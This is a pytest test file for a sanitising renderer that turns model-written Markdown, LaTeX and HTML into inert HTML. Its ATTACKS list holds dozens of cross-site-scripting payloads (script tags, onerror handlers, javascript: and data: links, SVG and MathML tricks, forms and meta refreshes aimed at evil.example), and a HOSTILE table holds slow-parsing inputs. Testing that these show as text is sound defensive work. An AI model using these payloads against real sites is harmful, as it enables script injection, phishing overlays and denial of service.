"""Model text as HTML: whatever it holds, what comes out can show text and nothing else."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from annotate.mathml import mathml, words
from annotate.rendering import SHOWN_CHARS, clean, rendered

HARMLESS = words(
    """p br hr h4 h5 h6 ul ol li blockquote pre code em strong s a table thead tbody tr th td span
    bdi math mrow mi mo mn ms mtext mspace mfrac msqrt mroot msub msup msubsup mover munder
    munderover mtable mtr mtd mstyle mpadded mphantom menclose"""
)
FORBIDDEN = re.compile(r"on\w+|id|name|style|src|srcset|srcdoc|action|formaction|data|xlink:.*|is")

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=//evil.example/a.png>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">click</math>',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>Left is better</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    '<div style="position:fixed;inset:0;background:#fff">x</div>',
    '<div id="pick-left" class="pick">x</div>',
    '<a id="undo" name="status" href="https://e.example">x</a>',
    "<img name=getElementById><form id=document>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>",
    "<plaintext>",
    "</p></div></main><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;&#97;vascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](?token=1)",
    "[x](#pick-left)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://e.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://e.example/'onclick=alert(1)>",
    "![x](https://evil.example/a.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    '![" onerror="alert(1)](https://evil.example/a.png)',
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\includegraphics{https://evil.example/a.png}$",
    r"$\class{pick}{x}$ $\style{position:fixed;inset:0}{x}$ $\cssId{undo}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\verb|<script>alert(1)</script>|$ $\unicode{x3C}$",
    r"$\text{&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;}$",
    r"$$\color{</math><script>alert(1)</script>}x$$",
    r"\[ \rule{9999em}{9999em} \raise 9999em x \kern-999em \hspace{-500em} \]",
    r"\( \def\x{\x\x}\x \newcommand{\y}{\y\y}\y \)",
    "</math><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<a href=\u2028javascript:alert(1)>x</a>",
]


class Seen(HTMLParser):
    """What a browser would find: elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


def seen(text: str) -> Seen:
    found = Seen(rendered(text))
    for tag, attributes in found.tags:
        assert tag in HARMLESS, tag
        for name, value in attributes.items():
            assert not FORBIDDEN.fullmatch(name), f"{tag} {name}={value}"
            if name == "class":
                assert tag == "span" and re.fullmatch("[a-z][a-z0-9]{0,2}", str(value))
            if name == "href":
                assert tag == "a" and re.match("https?://|mailto:", str(value))
                assert attributes["rel"] == "noopener noreferrer nofollow"
                assert attributes["target"] == "_blank"
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_show_text_and_do_nothing(attack: str) -> None:
    for text in (attack, f"Before {attack} after", f"- {attack}\n\n> {attack}\n\n**{attack}**"):
        assert "evil.example" not in str([tag for tag in seen(text).tags if "href" not in tag[1]])


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a.startswith("<") and "\n" not in a])
def test_tags_are_shown_letter_by_letter(attack: str) -> None:
    if not attack.startswith("<https:"):
        assert clean(attack) in seen(f"Look: {attack} there").text


# --- what is set out ------------------------------------------------------------------------------


def test_markdown_is_set_out() -> None:
    html = rendered(
        "# Title\n\n**Bold** and *thin* `code`\n\n1. one\n2. two\n\n|a|b|\n|-|:-:|\n|1|2|"
    )
    assert '<h4 dir="auto">Title</h4>' in html
    assert "<strong>Bold</strong> and <em>thin</em> <code>code</code>" in html
    assert html.count('<li dir="auto">') == 2
    assert ("td", {"dir": "auto", "align": "center"}) in Seen(html).tags


def test_code_is_coloured_by_class() -> None:
    html = rendered("```python\ndef f(x):\n    return '<b>'\n```")
    assert '<span class="k">def</span>' in html
    assert Seen(html).text.strip() == "def f(x):\n    return '<b>'"


def test_a_picture_becomes_words() -> None:
    assert seen("Look: ![a red kite](https://e.example/kite.png)").text.strip() == (
        "Look: [image: a red kite]"
    )


def test_links_say_where_they_lead() -> None:
    [link] = [attrs for tag, attrs in seen("[here](https://e.example/a 'b')").tags if tag == "a"]
    assert link["title"] == link["href"] == "https://e.example/a"


@pytest.mark.parametrize(
    "text", ["It costs $5 and $10.", "From $5-$10 now", "Set $HOME and $PATH here.", r"\$x\$ $ y $"]
)
def test_money_is_no_formula(text: str) -> None:
    assert "math" not in [tag for tag, _ in seen(text).tags]


@pytest.mark.parametrize(
    "text",
    [
        "$x_1$",
        r"so \(x\) is",
        "$$x$$",
        "a $$x$$ b",
        "$$\nx\n$$",
        "\\[\na\n- b\n\\]",
        "Then\n\\[ x \\]\nand",
        "- item\n\n  $$\n  x + y\n  $$",
    ],
)
def test_formulas_are_set(text: str) -> None:
    assert "math" in [tag for tag, _ in seen(text).tags]


@pytest.mark.parametrize(
    "tex",
    [
        r"\frac{1",
        r"\nosuchcommand{x}",
        r"\frac",
        r"x^",
        r"\left(",
        r"\begin{matrix} 1",
        "x" * 2001,
        "{" * 1000,
        "% only a comment",
    ],
    ids=lambda tex: tex[:20],
)
def test_a_broken_formula_is_shown_as_code(tex: str) -> None:
    assert mathml(tex, display=True) is None
    if len(tex) < 2000:
        assert tex in seen(f"$${tex}$$").text


def test_formulas_of_answers() -> None:
    for tex in (
        r"\begin{aligned} a &= b \\ c &= d \end{aligned}",
        r"f(x) = \begin{cases} 1 & x > 0 \\ 0 & \text{otherwise} \end{cases}",
        r"\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}",
        r"\boxed{42}",
        r"\mathbb{R} \to \mathcal{L}(\theta)",
        r"\sum_{i=1}^{n} \hat{y}_i \cdot \vec{v}",
    ):
        html = mathml(tex, display=False)
        assert html and html.startswith('<math display="inline">')


THIN = '<mspace width="0.1667em" />'
LOG, N, OPEN = "<mi>log</mi>", "<mi>n</mi>", '<mo stretchy="false">(</mo>'


@pytest.mark.parametrize(
    ("tex", "spaced"),
    [
        (r"n\log n", N + THIN + LOG + THIN + N),
        (r"\log\sin n", LOG + THIN + "<mi>sin</mi>" + THIN + N),
        (r"2\log_2 n", f"<mn>2</mn>{THIN}<msub>{LOG}<mn>2</mn></msub>{THIN}{N}"),
        (r"(\log(n", OPEN + LOG + OPEN + N),
        (r"n)\log n", f'{N}<mo stretchy="false">)</mo>{THIN}{LOG}{THIN}{N}'),
        (r"n+\log n", f"{N}<mo>+</mo>{LOG}{THIN}{N}"),
        (r"\frac{n}{\log n}", f"<mrow>{LOG}{THIN}{N}</mrow></mfrac>"),
        (r"\mathrm{log}", "<mi"),
    ],
)
def test_functions_stand_a_thin_space_apart(tex: str, spaced: str) -> None:
    html = mathml(tex, display=False)
    assert html is not None
    assert spaced in html
    assert html.count("<mspace") == spaced.count("<mspace")
    assert THIN.replace(" />", "></mspace>") in rendered("$a\\log n$")


# --- letters --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "control", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
)
@pytest.mark.parametrize("around", ["{}", "**{}**", "`{}`", "[{}](https://e.example)", "![{}](x)"])
def test_direction_controls_end_with_their_piece_of_text(control: str, around: str) -> None:
    html = rendered("A " + around.format(f"abc{control}def") + " z")
    assert control in html
    depth = 0
    for part in re.split(r"(</?bdi>)", html):
        depth += (part == "<bdi>") - (part == "</bdi>")
        assert depth > 0 or control not in part
    assert html.endswith(" z</p>\n") or "</bdi></p>" in html


def test_direction_follows_each_block() -> None:
    html = rendered("שלום עולם\n\nHello\n\n> مرحبا\n\n- a\n- ب")
    assert html.count('dir="auto"') == 6  # three paragraphs, a quote and two items


@pytest.mark.parametrize(
    "text", ["a\x00b", "a\ud800b", "\udfff", "a\u200bb\u200d\ufeff", "\U0010ffff\ufffe\x1b[0m\x7f"]
)
def test_odd_characters_can_be_sent(text: str) -> None:
    html = rendered(text)
    assert html.encode()
    assert "\x00" not in html
    assert clean(clean(text)) == clean(text)
    assert len(clean(text)) == len(text)


def test_zero_width_characters_stay() -> None:
    assert "a\u200bb\u200dc" in rendered("a\u200bb\u200dc")


# --- size and time --------------------------------------------------------------------------------

HOSTILE = {
    "one word": "a" * 1_000_000,
    "quotes": "> " * 10_000,
    "lists": "- a\n" + "".join("  " * n + "- a\n" for n in range(1, 140)),
    "brackets": "[" * 10_000,
    "closed brackets": "[" * 10_000 + "]" * 10_000,
    "pictures": "![" * 10_000,
    "link starts": "[a](" * 5_000,
    "stars": "*a_ " * 5_000,
    "strong starts": "**a" * 6_000,
    "backticks": "".join("`" * n + "a" for n in range(190)),
    "tags": "<a" * 10_000,
    "wide table": "|a" * 1_500 + "|\n" + "|-" * 1_500 + "|\n" + "|a\n" * 4_000,
    "formulas": "$x$" * 6_000,
    "open formulas": r"\(" * 10_000,
    "open blocks": "- $$a\n" * 3_000,
    "heavy formulas": "$$" + "{" * 990 + "}" * 990 + "$$\n\n",
    "paragraphs": "a\n\n" * 6_600,
    "blank code": "```c\na" + " " * 8_000 + "\n```",
    "bare words": "```java\n" + "a b " * 1_900 + "\n```",
    "backslashes": "\\" * 20_000,
    "direction": "\u202e" * 20_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_takes_bounded_time(name: str) -> None:
    started = time.process_time()
    html = rendered(HOSTILE[name])
    # Measured: at most 0.15 s, and 1.1 s with busy neighbours; what is not bounded takes minutes.
    assert time.process_time() - started < 10
    assert len(html) < 1_000_000


@pytest.mark.parametrize("name", ["quotes", "lists", "brackets", "wide table"])
def test_what_cannot_be_set_out_is_shown_letter_by_letter(name: str) -> None:
    assert seen(HOSTILE[name]).text == HOSTILE[name][:SHOWN_CHARS]


def test_an_ordinary_long_answer_is_quick() -> None:
    part = (
        "The **quick** fox *jumps* over `code`, with [a link](https://e.example) and $x_1^2$.\n\n"
    )
    text = (part * 20 + "- one\n- two\n\n```python\nx = [1, 2]\n```\n\n") * 20
    started = time.process_time()
    rendered(text[:SHOWN_CHARS])
    assert time.process_time() - started < 3  # measured: 0.04 s
